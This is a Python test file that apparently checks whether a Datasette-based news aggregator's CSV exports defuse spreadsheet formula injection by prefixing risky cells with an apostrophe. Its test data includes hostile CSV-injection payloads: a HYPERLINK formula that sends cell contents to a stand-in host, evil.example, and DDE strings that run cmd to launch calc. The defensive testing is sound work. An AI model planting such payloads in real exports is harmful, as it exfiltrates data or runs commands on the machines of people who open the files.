"""The rows of tables and questions as CSV, which people open in spreadsheets."""

import asyncio
import csv
import sqlite3
from contextlib import closing
from pathlib import Path

from datasette.app import Datasette

from aggregator.publish.export.csv_table import unguarded
from tests.publish.conftest import CONFIGURED, Browsing
from tests.publish.sample import Desk

FORMULAS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    " =1+1",
    "'=1+1",
)
ADDRESSES = (
    "/conflict-news/articles.csv?_size=max",
    "/conflict-news/articles.csv?_stream=1",
    "/conflict-news/articles.csv?_labels=on&_size=max",
    "/conflict-news.csv?sql=select+title,+-1+as+less+from+articles",
    "/conflict-news/reports.csv?_size=max",
)


def table(browsing: Browsing, address: str) -> list[dict[str, str]]:
    answer = browsing.get(address)
    assert answer.status_code == 200
    return list(csv.DictReader(answer.text.splitlines()))


def test_c13_no_cell_of_a_table_begins_like_a_formula(
    runner: asyncio.Runner, desk: Desk, tmp_path: Path
) -> None:
    with closing(sqlite3.connect(tmp_path / "birds.db")) as connection:
        connection.execute("CREATE TABLE birds AS SELECT '=1+1' AS title")
        connection.commit()
    feed = desk.feed("press", "Press")
    for text in FORMULAS:
        desk.story([desk.article(feed, text, minutes=3)])
    files = [str(desk.path), str(tmp_path / "birds.db")]
    browsing = Browsing(runner, Datasette(files, metadata=CONFIGURED))
    try:
        browsing.get("/")
        for address in ADDRESSES:
            titles = [row["title"] for row in table(browsing, address)]
            assert {unguarded(title) for title in titles} == set(FORMULAS), address
            assert all(title.startswith("'") for title in titles), address
        (row, *_) = table(browsing, ADDRESSES[3])
        assert row["less"] == "-1"
        assert table(browsing, "/birds/birds.csv")[0]["title"] == "=1+1"
    finally:
        browsing.close()
